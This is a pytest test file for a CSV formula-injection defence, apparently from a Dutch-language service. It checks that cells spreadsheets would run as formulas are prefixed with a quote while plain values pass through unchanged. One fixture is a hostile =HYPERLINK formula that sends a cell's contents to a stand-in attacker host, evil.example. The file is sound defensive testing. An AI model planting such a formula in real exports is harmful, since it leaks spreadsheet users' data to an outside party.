"""CSV cells a spreadsheet would run as formulas are defused, and nothing else changes."""

from __future__ import annotations

import csv
import io

import pytest

from services.infra.spreadsheet import SafeCsv, neutralised


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A1,"Bekijk")',
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"Bekijk")',
        ),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Bewoners = tevreden", "Bewoners = tevreden"),
        ("", ""),
        (42, 42),
        (-5, -5),
    ],
)
def test_formula_cells_are_prefixed_with_a_quote(cell: object, written: object) -> None:
    assert neutralised(cell) == written


def test_every_cell_is_quoted_and_reads_back_as_text() -> None:
    out = SafeCsv()
    out.row(["position", "rationale"])
    out.row([3, "=2*3"])
    text = out.take()
    assert text.splitlines() == ['"position","rationale"', '"3","\'=2*3"']
    assert list(csv.reader(io.StringIO(text)))[1] == ["3", "'=2*3"]
    assert out.take() == ""
